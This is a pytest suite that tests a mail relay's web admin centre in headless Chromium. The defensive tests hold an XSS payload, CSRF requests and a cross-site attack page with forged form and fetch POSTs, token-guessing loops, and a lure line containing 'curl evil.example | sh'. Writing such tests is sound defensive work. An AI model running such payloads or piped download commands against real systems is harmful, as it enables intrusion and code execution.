"""The web admin centre in real headless Chromium (Playwright) against a real in-process relay.

The relay runs in its own thread and event loop (the Playwright sync API needs a thread without a
running loop); its only send connector points at a closed port, so messages stay queued in Retry.
Chromium is the Debian package (/usr/bin/chromium): if it cannot run, these tests fail, they do
not skip.
"""

from __future__ import annotations

import asyncio
import os
import smtplib
import socket
import tempfile
import threading
import time
import uuid
from collections.abc import Coroutine, Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect, sync_playwright

from relaygate.admin.web import session_cookie, session_value
from relaygate.app import Relay
from tests.queue_manager.helpers import free_port, start_relay

pytestmark = pytest.mark.browser

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SCREENSHOT = Path("/tmp/relaygate-admin-dashboard.png")
QUEUE = {"transient_failure_retry_interval": "00:10:00", "message_retry_interval": "00:10:00"}

# A catch-all connector on the same binding without relay rights: 127.0.0.1 is taken by the
# narrower "Test Relay" (relays), every other loopback address by this one (550 5.7.54).
FRONTEND = """
[[receive_connectors]]
name = "Default Frontend"
usage = "Custom"
bindings = ["127.0.0.1:{port}"]
remote_ip_ranges = ["127.0.0.0/8"]
auth_mechanism = ["None"]
permission_groups = ["AnonymousUsers"]
"""


class RelayThread:
    """A relay started by tests.queue_manager.helpers.start_relay, in a thread of its own."""

    def __init__(
        self,
        data_dir: Path,
        *,
        token: str | None = None,
        queue: dict[str, Any] | None = None,
        routes: dict[str, int] | None = None,
        extra: str = "",
        **kwargs: Any,
    ) -> None:
        self.token = token  # sent as the bearer token to /api/
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.smtp_port = free_port()
        closed = free_port()  # nothing listens: every delivery attempt fails, messages stay
        self.closed_port = closed
        self.relay: Relay = self.call(
            start_relay(
                data_dir,
                {"*": closed, **(routes or {})},
                queue={**QUEUE, **(queue or {})},
                smtp_port=self.smtp_port,
                extra=FRONTEND.format(port=self.smtp_port) + extra,
                **kwargs,
            )
        )
        assert self.relay.admin is not None and self.relay.admin.url
        self.url: str = self.relay.admin.url

    @property
    def session_cookie(self) -> str:
        """The name of this relay's admin centre session cookie (it carries the port)."""
        assert self.relay.admin is not None and self.relay.admin.endpoint is not None
        return session_cookie(self.relay.admin.endpoint[1])

    def call(self, coro: Coroutine[Any, Any, Any], timeout: float = 30) -> Any:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def stop(self) -> None:
        try:
            self.call(self.relay.stop())
        finally:
            self.loop.call_soon_threadsafe(self.loop.stop)
            self.thread.join(10)
            self.loop.close()

    def send(self, subject: str, to: str = "someone@example.org") -> str:
        """Submit a message over SMTP (smtplib); returns its queue id once it sits in Retry."""
        message_id = f"<{uuid.uuid4().hex}@app.corp.test>"
        msg = EmailMessage()
        msg["From"] = "app@corp.test"
        msg["To"] = to
        msg["Subject"] = subject
        msg["Message-ID"] = message_id
        msg.set_content("Invoice attached.\n")
        with smtplib.SMTP("127.0.0.1", self.smtp_port, timeout=10) as smtp:
            smtp.send_message(msg)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            for m in self.api("GET", "/api/queue").json()["messages"]:
                if m["MessageId"] == message_id and m["Status"] == "Retry":
                    return str(m["QueueId"])
            time.sleep(0.1)
        raise AssertionError(f"message {message_id} did not reach Retry")

    def api(self, method: str, path: str, **kwargs: Any) -> httpx.Response:
        if path.startswith("/api/") and self.token:
            kwargs["headers"] = {
                "Authorization": f"Bearer {self.token}",
                **kwargs.get("headers", {}),
            }
        return httpx.request(method, self.url + path, timeout=10, **kwargs)


@pytest.fixture(scope="module")
def node() -> Iterator[RelayThread]:
    with tempfile.TemporaryDirectory(prefix="relaygate-web-") as tmp:
        relay = RelayThread(Path(tmp))
        try:
            yield relay
        finally:
            relay.stop()


@pytest.fixture(scope="module")
def browser_context() -> Iterator[BrowserContext]:
    assert Path(CHROMIUM).exists(), "chromium is missing: apt-get install -y chromium"
    with (
        tempfile.TemporaryDirectory(prefix="relaygate-chromium-") as profile,
        sync_playwright() as p,
    ):
        context = p.chromium.launch_persistent_context(
            profile,
            executable_path=CHROMIUM,
            args=CHROMIUM_ARGS,
            headless=True,
            viewport={"width": 1360, "height": 1000},
        )
        try:
            yield context
        finally:
            context.close()


@pytest.fixture
def tab(browser_context: BrowserContext) -> Iterator[Page]:
    tab = browser_context.new_page()
    tab.set_default_timeout(10_000)
    try:
        yield tab
    finally:
        tab.close()


def _row(tab: Page, qid: str) -> Any:
    return tab.locator(f'tr[data-queue-id="{qid}"]')


def test_dashboard_shows_health_counts_connectors_and_findings(
    node: RelayThread, tab: Page
) -> None:
    node.send("Dashboard check")
    with socket.create_connection(("127.0.0.1", node.smtp_port), timeout=10) as held:
        assert held.recv(512).startswith(b"220 ")  # one open session on "Test Relay"
        response = tab.goto(node.url + "/")
        expect(
            tab.locator("#connectors tbody tr").filter(has_text="Test Relay").locator(".sessions")
        ).to_contain_text("1 open")
    assert response is not None and response.status == 200
    headers = response.headers
    assert "script-src" not in headers["content-security-policy"]
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    expect(tab.locator("#health-status")).to_have_text("ok")
    expect(tab.locator("#back-pressure")).to_contain_text("off; ")
    expect(tab.locator("#back-pressure")).to_contain_text("minimum 500 MB")
    counts = node.api("GET", "/api/queue/summary").json()
    expect(tab.locator('#queue-counts td[data-count="messages"]')).to_have_text(
        str(counts["messages"])
    )
    expect(tab.locator('#queue-counts td[data-count="retry"]')).to_have_text(str(counts["retry"]))
    assert counts["retry"] >= 1
    connectors = tab.locator("#connectors tbody tr")
    expect(connectors).to_have_count(2)
    relay_row = connectors.filter(has_text="Test Relay")
    expect(relay_row).to_contain_text(f"127.0.0.1:{node.smtp_port}")
    expect(relay_row.locator(".relay")).to_have_text("A")  # AnonymousUsers + ANONYMOUS LOGON grant
    frontend = connectors.filter(has_text="Default Frontend")
    expect(frontend).to_contain_text("127.0.0.0/8")
    expect(frontend.locator(".relay")).to_have_text("none")
    expect(frontend.locator(".sessions")).to_contain_text("0 open")
    expect(frontend.locator(".sessions")).to_contain_text("of 5,000")
    expect(tab.locator("#send-connectors")).to_contain_text("To *")
    # the audit's findings with their severity (the nested ranges on one binding are reported)
    findings = tab.locator("#findings tbody tr")
    expect(findings.filter(has_text="are taken by connector").first.locator(".sev")).to_have_text(
        "info"
    )
    tab.screenshot(path=str(SCREENSHOT), full_page=True)
    assert SCREENSHOT.stat().st_size > 10_000
    # the stylesheet is served from the package (no CDN, nothing external)
    css = node.api("GET", "/static/admin.css")
    assert css.status_code == 200 and "text/css" in css.headers["content-type"]


def test_send_connector_rows_show_their_pacing() -> None:
    from relaygate.admin.web import send_connector_rows
    from relaygate.config import parse_text

    cfg = parse_text(
        '[[send_connectors]]\nname = "M365"\naddress_spaces = ["*"]\n'
        'dns_routing_enabled = false\nsmart_hosts = ["smtp.office365.com"]\n'
        'max_messages_per_minute = 30\nsend_as = "relay@corp.example"\n'
        '[[send_connectors]]\nname = "MX"\naddress_spaces = ["x.example"]\n',
        "t.toml",
    )
    rows = {r["name"]: r["pacing"] for r in send_connector_rows(cfg)}
    assert rows == {"M365": "30 messages/minute", "MX": "unlimited"}
    spill = parse_text(
        '[[send_connectors]]\nname = "M365"\naddress_spaces = ["*"]\n'
        'max_messages_per_minute = 30\noverflow_connector = "MX"\n'
        '[[send_connectors]]\nname = "MX"\naddress_spaces = ["x.example"]\n',
        "t.toml",
    )
    rows = {r["name"]: r["pacing"] for r in send_connector_rows(spill)}
    assert rows["M365"] == '30 messages/minute, then via "MX" (overflow_connector)'
    sent_as = {r["name"]: r["send_as"] for r in send_connector_rows(cfg)}
    assert sent_as == {"M365": "relay@corp.example", "MX": ""}


def test_dashboard_shows_back_pressure(tmp_path: Path, tab: Page) -> None:
    st = os.statvfs(tmp_path)
    more_than_free = st.f_bavail * st.f_frsize + 50 * 1024**3
    node = RelayThread(tmp_path / "data", queue={"min_free_disk_space": more_than_free})
    try:
        response = tab.goto(node.url + "/")
        assert response is not None and response.status == 200
        expect(tab.locator("#health-status")).to_have_text("degraded")
        pressure = tab.locator("#back-pressure")
        expect(pressure).to_contain_text("on: new messages are refused (452 4.3.1)")
        expect(pressure).to_contain_text(f"minimum {more_than_free // 1048576:,} MB")
        expect(pressure).to_have_class("error")
    finally:
        node.stop()


def test_queue_suspend_resume_remove_in_the_browser(node: RelayThread, tab: Page) -> None:
    qid = node.send("Queue actions")
    tab.goto(node.url + "/queue")
    row = _row(tab, qid)
    expect(row).to_contain_text("app@corp.test")
    expect(row).to_contain_text("someone@example.org")
    expect(row.locator("td.status")).to_have_text("Retry")
    expect(row).to_contain_text("451 4.4.0")  # the last error: the smart host is unreachable

    row.get_by_role("button", name="Suspend").click()
    expect(tab.locator(".notice")).to_contain_text(f"Suspended RELAYTEST\\{qid}")
    expect(_row(tab, qid).locator("td.status")).to_have_text("Suspended")
    assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Suspended"

    _row(tab, qid).get_by_role("button", name="Resume").click()
    expect(tab.locator(".notice")).to_contain_text(f"Resumed RELAYTEST\\{qid}")
    expect(_row(tab, qid).locator("td.status")).not_to_have_text("Suspended")
    deadline = time.monotonic() + 15  # resume wakes delivery; it fails again → Retry
    while node.api("GET", f"/api/queue/{qid}").json()["Status"] != "Retry":
        assert time.monotonic() < deadline, "resumed message did not return to Retry"
        time.sleep(0.1)

    # the detail tab, and its own buttons redirect back to it
    tab.goto(node.url + "/queue")
    _row(tab, qid).get_by_role("link").first.click()
    expect(tab.locator("h1")).to_contain_text(qid)
    expect(tab.locator("table.fields")).to_contain_text("Queue actions")
    expect(tab.locator("#recipients")).to_contain_text("someone@example.org")
    tab.get_by_role("button", name="Suspend").click()
    assert tab.url.endswith(f"/queue/{qid}?done=suspend")
    expect(tab.locator("#message-status")).to_have_text("Suspended")

    tab.goto(node.url + "/queue")
    _row(tab, qid).get_by_role("button", name="Remove", exact=True).click()
    expect(tab.locator(".notice")).to_contain_text(f"Removed RELAYTEST\\{qid}")
    expect(_row(tab, qid)).to_have_count(0)
    assert node.api("GET", f"/api/queue/{qid}").status_code == 404


def test_explain_form_shows_what_relaygate_explain_shows(node: RelayThread, tab: Page) -> None:
    tab.goto(node.url + "/explain")
    tab.fill('input[name="client_ip"]', "127.0.0.5")
    tab.fill('input[name="from"]', "scanner@corp.test")
    tab.fill('textarea[name="to"]', "someone@example.org\ncolleague@corp.test")
    tab.get_by_role("button", name="Explain").click()
    result = tab.locator(".explain-result")
    expect(result).to_have_count(1)
    expect(result).to_contain_text("Connector: Default Frontend")
    outside = result.locator(".recipient").filter(has_text="someone@example.org")
    expect(outside).to_contain_text("550 5.7.54")
    expect(outside).to_contain_text("because")
    inside_domain = result.locator(".recipient").filter(has_text="colleague@corp.test")
    expect(inside_domain).to_contain_text("250 2.1.5")

    tab.fill('input[name="client_ip"]', "127.0.0.1")
    tab.fill('input[name="local"]', f"127.0.0.1:{node.smtp_port}")
    tab.fill('textarea[name="to"]', "someone@example.org")
    tab.get_by_role("button", name="Explain").click()
    expect(result).to_contain_text("Connector: Test Relay")
    expect(result).to_contain_text("beat Default Frontend")
    expect(result).to_contain_text("ms-Exch-SMTP-Accept-Any-Recipient")
    recipient = result.locator(".recipient")
    expect(recipient).to_contain_text("250 2.1.5")
    expect(recipient).to_contain_text("route: To * → ")

    # AUTH is not offered on Default Frontend: the page says so and explains the session anonymous
    tab.goto(node.url + "/explain?client_ip=127.0.0.5&auth_user=alice&to=someone%40example.org")
    expect(result).to_contain_text("AUTH as alice → 504 5.7.4 Unrecognized authentication type")
    expect(result).to_contain_text("Runs as: NT AUTHORITY\\ANONYMOUS LOGON")
    expect(result.locator(".recipient")).to_contain_text("550 5.7.54")

    tab.fill('input[name="client_ip"]', "not-an-ip")
    tab.get_by_role("button", name="Explain").click()
    expect(tab.locator("p.error")).to_contain_text("is not an IP address")


def test_everything_is_escaped(node: RelayThread, tab: Page) -> None:
    qid = node.send('<script>document.title="pwned"</script><b>bold</b>')
    tab.goto(f"{node.url}/queue/{qid}")
    expect(tab.locator("table.fields")).to_contain_text('<script>document.title="pwned"</script>')
    assert tab.locator("main script, main b").count() == 0
    assert tab.title() != "pwned"
    tab.goto(node.url + "/explain?client_ip=127.0.0.5&to=%3Cimg%20src%3Dx%3E@example.org")
    expect(tab.locator(".explain-result")).to_contain_text("<img")
    assert tab.locator("main img").count() == 0
    node.api("DELETE", f"/api/queue/{qid}")


def test_cross_origin_and_originless_posts_are_refused(node: RelayThread) -> None:
    qid = node.send("CSRF check")
    host = node.url.removeprefix("http://")
    for headers in (
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {},  # no Origin: not from a browser form of this site
        {"Origin": node.url, "Sec-Fetch-Site": "cross-site"},
        {"Origin": "http://relay.evil.example", "Host": "relay.evil.example"},
    ):
        for action in ("suspend", "remove"):
            r = node.api("POST", f"/queue/{qid}/{action}", headers=headers)
            assert r.status_code == 403, (headers, action, r.status_code)
        bulk = {"action": "remove", "confirm": "yes", "to": "*@example.org"}
        r = node.api("POST", "/queue/bulk", data=bulk, headers=headers)
        assert r.status_code == 403, (headers, "bulk", r.status_code)
    assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Retry"
    # a pattern that matches every address is no filter on the bulk buttons either
    for everything in ({"from": "*"}, {"to": "*@*"}):
        r = node.api(
            "POST",
            "/queue/bulk",
            data={"action": "remove", "confirm": "yes", **everything},
            headers={"Origin": node.url, "Host": host},
        )
        assert r.status_code == 400 and "matches every message" in r.text, r.text
    assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Retry"
    # the same request from the admin centre's own origin works
    r = node.api("POST", f"/queue/{qid}/suspend", headers={"Origin": node.url, "Host": host})
    assert r.status_code == 303 and r.headers["location"] == f"/queue?done=suspend&id={qid}"
    assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Suspended"
    assert (
        node.api("POST", f"/queue/{qid}/explode", headers={"Origin": node.url}).status_code == 404
    )
    node.api("DELETE", f"/api/queue/{qid}")


def test_a_cross_site_page_in_chromium_changes_nothing(node: RelayThread, tab: Page) -> None:
    """What Chromium itself sends when another site (127.0.0.2, another site than 127.0.0.1)
    posts a form at the admin centre and calls the API with no-cors fetch POSTs (a DELETE needs
    a CORS preflight, which the listener never grants): the requests above
    (test_cross_origin_and_originless_posts_are_refused) assume its headers. Without a token the
    API has no other guard; every request gets 403 and the message stays."""
    import http.server

    qid = node.send("Cross-site check")
    api = f"{node.url}/api/queue"
    attack = f"""<!doctype html><title>attack</title>
<iframe name="sink"></iframe>
<form id="f" method="post" action="{node.url}/queue/{qid}/remove" target="sink">
<input name="with_ndr" value="false"></form>
<script>
const framed = new Promise(done => document.querySelector("iframe").onload = done);
document.getElementById("f").submit();
const calls = [
  fetch("{api}/remove?to=*@example.org", {{method: "POST", mode: "no-cors"}}),
  fetch("{api}/{qid}/suspend", {{method: "POST", mode: "no-cors", body: "x"}}),
].map(p => p.catch(() => null));
Promise.all([framed, ...calls]).then(() => document.title = "done");
</script>""".encode()

    class AttackerSite(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(attack)))
            self.end_headers()
            self.wfile.write(attack)

        def log_message(self, *args: Any) -> None:
            pass

    # threads: Chromium opens a spare connection it may send nothing on, which held a
    # one-at-a-time server (and the page) for a minute
    site = http.server.ThreadingHTTPServer(("127.0.0.2", 0), AttackerSite)
    threading.Thread(target=site.serve_forever, daemon=True).start()
    answers: list[tuple[str, str, int]] = []
    tab.on(
        "response",
        lambda r: (
            r.url.startswith(node.url) and answers.append((r.request.method, r.url, r.status))
        ),
    )
    try:
        tab.goto(f"http://127.0.0.2:{site.server_port}/")
        expect(tab).to_have_title("done")
    finally:
        site.shutdown()
        site.server_close()
    posts = [a for a in answers if a[0] == "POST"]
    assert len(posts) == 3 and all(status == 403 for _m, _u, status in answers), answers
    assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Retry"
    node.api("DELETE", f"/api/queue/{qid}")


def test_a_link_cannot_put_its_own_words_in_the_retry_notice(node: RelayThread, tab: Page) -> None:
    """The notice after a queue's Retry button named the queue given in the URL, whatever it
    said: a link could show the admin a sentence of its choosing as the admin centre's own
    notice. It names a queue that exists (or Unreachable) only."""
    qid = node.send("Notice check")
    [queue] = [q["NextHopDomain"] for q in node.api("GET", "/api/queues").json()["queues"]]
    lure = "example.org. Your API token has expired: run curl evil.example | sh to renew it"
    tab.goto(node.url + "/queue?" + urlencode({"done": "retry-queue", "count": 3, "queue": lure}))
    expect(tab.locator(".notice")).to_have_text("Retry requested for 3 message(s).")
    tab.goto(node.url + "/queue?" + urlencode({"done": "retry-queue", "count": 1, "queue": queue}))
    expect(tab.locator(".notice")).to_have_text(
        f"Retry requested for 1 message(s) in RELAYTEST\\{queue}."
    )
    node.api("DELETE", f"/api/queue/{qid}")


def test_with_a_token_every_page_needs_a_session(tmp_path: Path) -> None:
    token = "s3cret-token-for-the-admin-centre"
    (tmp_path / "token").write_text(token + "\n", encoding="utf-8")
    node = RelayThread(
        tmp_path / "data", token=token, admin_extra=f'api_token_file = "{tmp_path / "token"}"'
    )
    try:
        qid = node.send("Token check")
        origin = {"Origin": node.url}
        for path in ("/", "/queue", f"/queue/{qid}", "/explain?client_ip=127.0.0.1"):
            r = node.api("GET", path)
            assert r.status_code == 303 and r.headers["location"] == "/login", path
        assert node.api("POST", f"/queue/{qid}/suspend", headers=origin).status_code == 401
        bulk = {"action": "remove", "confirm": "yes", "to": "*@example.org"}
        assert node.api("POST", "/queue/bulk", data=bulk, headers=origin).status_code == 401
        wrong = node.api("POST", "/login", data={"token": "guess"}, headers=origin)
        assert wrong.status_code == 401 and "wrong token" in wrong.text
        assert node.api("POST", "/login", data={"token": token}).status_code == 403  # no Origin
        good = node.api("POST", "/login", data={"token": token}, headers=origin)
        assert good.status_code == 303
        cookie = good.headers["set-cookie"]
        assert "httponly" in cookie.lower() and "samesite=strict" in cookie.lower()
        assert token not in cookie
        session = {node.session_cookie: session_value(token)}
        with httpx.Client(base_url=node.url, cookies=session, timeout=10) as client:
            assert client.get("/").status_code == 200
            assert "Token check" in client.get(f"/queue/{qid}").text
            r = client.post(f"/queue/{qid}/suspend", headers=origin)
            assert r.status_code == 303
            # the cookie is for the pages only: the JSON API still wants the bearer token
            assert client.get("/api/queue").status_code == 401
        assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Suspended"
    finally:
        node.stop()


def test_a_session_ends_after_twelve_hours_and_when_signed_out(tmp_path: Path) -> None:
    """The cookie's value was fixed for a given token and never expired: a copy of it (a shared
    machine, a leaked browser profile) worked until the token changed, sign-out included."""
    import time as time_mod

    from relaygate.admin.web import SESSION_LIFETIME

    token = "s3cret-token-for-sessions"
    (tmp_path / "token").write_text(token + "\n", encoding="utf-8")
    node = RelayThread(
        tmp_path / "data", token=token, admin_extra=f'api_token_file = "{tmp_path / "token"}"'
    )
    origin = {"Origin": node.url}
    try:
        old = session_value(token, int(time_mod.time()) - SESSION_LIFETIME - 1)
        with httpx.Client(base_url=node.url, cookies={node.session_cookie: old}, timeout=10) as c:
            assert c.get("/").status_code == 303  # to /login
        forged = session_value("another-token")
        with httpx.Client(
            base_url=node.url, cookies={node.session_cookie: forged}, timeout=10
        ) as c:
            assert c.get("/").status_code == 303
        signed_in = node.api("POST", "/login", data={"token": token}, headers=origin)
        assert signed_in.status_code == 303
        assert "max-age=43200" in signed_in.headers["set-cookie"].lower()
        value = signed_in.cookies[node.session_cookie]
        with httpx.Client(base_url=node.url, cookies={node.session_cookie: value}, timeout=10) as c:
            assert c.get("/").status_code == 200
            assert c.post("/logout", headers=origin).status_code == 303
        with httpx.Client(base_url=node.url, cookies={node.session_cookie: value}, timeout=10) as c:
            assert c.get("/").status_code == 303  # a copy of the cookie is signed out too
    finally:
        node.stop()


def test_token_guessing_is_refused_after_ten_wrong_tokens_a_minute(tmp_path: Path) -> None:
    """Before, the token could be tried as fast as the listener answered. Ten wrong tokens from
    one address (bearer token and sign-in page together); then its tokens are checked once in
    6 s (LOCKED_CHECK_INTERVAL): a wrong one gets 429 with Retry-After, and so does every
    attempt before the next check, the right token's too, and from every other loopback
    address (one client: a local user may connect from any of them). Another address is
    served: test_token_guesses.test_wrong_tokens_from_one_ipv6_64_are_counted_together."""
    token = "s3cret-token-for-guessing"
    (tmp_path / "token").write_text(token + "\n", encoding="utf-8")
    node = RelayThread(
        tmp_path / "data", token=token, admin_extra=f'api_token_file = "{tmp_path / "token"}"'
    )
    origin = {"Origin": node.url}
    guesser = httpx.Client(
        base_url=node.url, timeout=10, transport=httpx.HTTPTransport(local_address="127.0.0.9")
    )
    other = httpx.Client(
        base_url=node.url, timeout=10, transport=httpx.HTTPTransport(local_address="127.0.0.10")
    )
    try:
        assert guesser.get("/api/queue").status_code == 401  # no token offered: not a guess
        for i in range(5):
            wrong = guesser.get("/api/queue", headers={"Authorization": f"Bearer guess{i}"})
            assert wrong.status_code == 401
            page = guesser.post("/login", data={"token": f"guess{i}"}, headers=origin)
            assert page.status_code == 401
        right = {"Authorization": f"Bearer {token}"}
        blocked = guesser.get("/api/queue", headers={"Authorization": "Bearer guess5"})
        assert blocked.status_code == 429 and blocked.headers["retry-after"] == "6"
        assert "too many wrong API tokens" in blocked.json()["error"]
        assert guesser.get("/api/queue", headers=right).status_code == 429
        page = guesser.post("/login", data={"token": token}, headers=origin)
        assert page.status_code == 429 and "too many wrong tokens" in page.text
        assert other.get("/api/queue", headers=right).status_code == 429
        assert other.post("/login", data={"token": token}, headers=origin).status_code == 429
    finally:
        guesser.close()
        other.close()
        node.stop()


def test_delivery_queues_filters_and_next_page_in_the_browser(tmp_path: Path, tab: Page) -> None:
    """Before, /queue showed the first 500 messages with no way further, no filter but the
    status, and no view of the delivery queues (Get-Queue) nor a way to retry one."""
    other = free_port()  # a second smart host, closed too: its own delivery queue
    node = RelayThread(tmp_path / "data", routes={"example.net": other})
    queue_star, queue_net = f"[127.0.0.1]:{node.closed_port}", f"[127.0.0.1]:{other}"
    try:
        org = [node.send(f"Page {n}", to=f"user{n}@example.org") for n in range(3)]
        net = node.send("Other queue", to="someone@example.net")
        tab.goto(node.url + "/queue")
        rows = tab.locator("#queues tbody tr")
        expect(rows).to_have_count(2)
        star = tab.locator(f'#queues tr[data-queue="{queue_star}"]')
        expect(star).to_contain_text(f"RELAYTEST\\{queue_star}")
        expect(star).to_contain_text("SmartHostConnectorDelivery")
        expect(star.locator("td.status")).to_have_text("Retry")
        expect(star.locator("td.count")).to_have_text("3")
        expect(star).to_contain_text("451 4.4.0")
        # a queue's link lists its messages only
        tab.locator(f'#queues tr[data-queue="{queue_net}"]').get_by_role("link").click()
        expect(tab.locator("#queue tbody tr")).to_have_count(1)
        expect(_row(tab, net)).to_contain_text("someone@example.net")
        expect(tab.locator('#filters input[name="queue"]')).to_have_value(queue_net)

        # a page at a time: the "Next page" link carries the cursor and the filters
        tab.goto(node.url + "/queue?limit=1&to=*@example.org")
        seen = []
        for n in range(3):
            expect(tab.locator("#queue tbody tr")).to_have_count(1)
            seen.append(tab.locator("#queue tbody tr").get_attribute("data-queue-id"))
            if n < 2:
                tab.locator("#next-page").click()
                assert "after=" in tab.url and "to=" in tab.url
        assert seen == org
        expect(tab.locator("#next-page")).to_have_count(0)  # the last page: nothing follows
        tab.locator("#first-page").click()
        expect(tab.locator("#queue tbody tr")).to_have_count(3)  # the filter is kept

        tab.fill('#filters input[name="from"]', "app@*")
        tab.fill('#filters input[name="to"]', "")
        tab.get_by_role("button", name="Filter").click()
        expect(tab.locator("#queue tbody tr")).to_have_count(4)
        tab.fill('#filters input[name="from"]', "a*p@corp.test")
        tab.get_by_role("button", name="Filter").click()
        expect(tab.locator("p.error")).to_contain_text("from 'a*p@corp.test'")

        # Retry-Queue: the button makes the queue's messages due now
        before = node.api("GET", f"/api/queue/{net}").json()["RetryCount"]
        tab.goto(node.url + "/queue")
        tab.locator(f'#queues tr[data-queue="{queue_net}"]').get_by_role(
            "button", name="Retry queue"
        ).click()
        expect(tab.locator(".notice")).to_contain_text(
            f"Retry requested for 1 message(s) in RELAYTEST\\{queue_net}"
        )
        deadline = time.monotonic() + 15
        while node.api("GET", f"/api/queue/{net}").json()["RetryCount"] <= before:
            assert time.monotonic() < deadline, "the queue was not retried"
            time.sleep(0.1)
        for qid in org:  # the other queue was not retried
            assert node.api("GET", f"/api/queue/{qid}").json()["RetryCount"] == 1
    finally:
        node.stop()


def test_bulk_buttons_on_a_filtered_queue_in_the_browser(tmp_path: Path, tab: Page) -> None:
    """Suspend all / Resume all / Remove all (no NDR) on /queue when a filter is set: before,
    each message had to be acted on with its own button."""
    other = free_port()
    node = RelayThread(tmp_path / "data", routes={"example.net": other})
    try:
        org = [node.send(f"Flood {n}", to=f"user{n}@example.org") for n in range(3)]
        net = node.send("Keep me", to="someone@example.net")
        tab.goto(node.url + "/queue")
        expect(tab.locator("#bulk")).to_have_count(0)  # no filter, no bulk buttons
        tab.goto(node.url + "/queue?from=*")  # a filter that matches every message: none either
        expect(tab.locator("#queue tbody tr")).to_have_count(4)
        expect(tab.locator("#bulk")).to_have_count(0)
        expect(tab.locator("#bulk-none")).to_contain_text("'*' matches every message")

        tab.goto(node.url + "/queue?to=*@example.org&limit=2")
        bulk = tab.locator("#bulk")
        expect(bulk).to_contain_text("not only this page")
        bulk.get_by_role("button", name="Suspend all").click()  # the box is not ticked
        assert "bulk=" not in tab.url
        assert node.api("GET", f"/api/queue/{org[0]}").json()["Status"] == "Retry"
        bulk.get_by_role("checkbox").check()
        bulk.get_by_role("button", name="Suspend all").click()
        expect(tab.locator(".notice")).to_contain_text("Suspended 3 of 3 matching message(s).")
        assert "to=" in tab.url  # back to the same filter
        for qid in org:
            assert node.api("GET", f"/api/queue/{qid}").json()["Status"] == "Suspended"
        assert node.api("GET", f"/api/queue/{net}").json()["Status"] == "Retry"

        tab.locator("#bulk").get_by_role("checkbox").check()
        tab.locator("#bulk").get_by_role("button", name="Resume all").click()
        expect(tab.locator(".notice")).to_contain_text("Resumed 3 of 3 matching message(s).")

        tab.locator("#bulk").get_by_role("checkbox").check()
        tab.locator("#bulk").get_by_role("button", name="Remove all (no NDR)").click()
        expect(tab.locator(".notice")).to_contain_text("Removed (no NDR) 3 of 3 matching")
        expect(tab.locator("#queue tbody tr")).to_have_count(1)  # "No messages"
        for qid in org:
            assert node.api("GET", f"/api/queue/{qid}").status_code == 404
        assert node.api("GET", f"/api/queue/{net}").status_code == 200

        origin = {"Origin": node.url}
        no_filter = node.api(
            "POST", "/queue/bulk", data={"action": "remove", "confirm": "yes"}, headers=origin
        )
        assert no_filter.status_code == 400 and "needs at least one filter" in no_filter.text
        unconfirmed = node.api(
            "POST", "/queue/bulk", data={"action": "remove", "to": "*@example.net"}, headers=origin
        )
        assert unconfirmed.status_code == 400
        assert node.api("GET", f"/api/queue/{net}").status_code == 200
    finally:
        node.stop()


def test_two_relays_on_one_host_keep_their_own_sessions_in_one_browser(
    tmp_path: Path, tab: Page
) -> None:
    """Cookies are per host, not per port (RFC 6265 §8.5): two relays' admin centres on one host
    (127.0.0.1:8025 and :8026) set the same cookie name, and signing in to the second signed
    the browser out of the first (its cookie replaced by one made with the other token). The
    cookie's name now carries the listener's port."""
    nodes = []
    try:
        for name in ("first", "second"):
            token = f"{name}-relay-token"
            (tmp_path / name).mkdir()
            (tmp_path / name / "token").write_text(token + "\n", encoding="utf-8")
            nodes.append(
                RelayThread(
                    tmp_path / name / "data",
                    token=token,
                    admin_extra=f'api_token_file = "{tmp_path / name / "token"}"',
                )
            )
        for node in nodes:  # signed in to each in turn, by the sign-in form
            tab.goto(node.url + "/login")
            tab.fill('input[name="token"]', str(node.token))
            tab.click('button[type="submit"]')
            expect(tab).to_have_url(node.url + "/")
        for node in nodes:
            tab.goto(node.url + "/queue")
            expect(tab).to_have_url(node.url + "/queue")  # not sent back to /login
        names = sorted(c["name"] for c in tab.context.cookies())
        assert len([n for n in names if n.startswith("relaygate_admin_session")]) == 2, names
    finally:
        tab.context.clear_cookies()
        for node in nodes:
            node.stop()
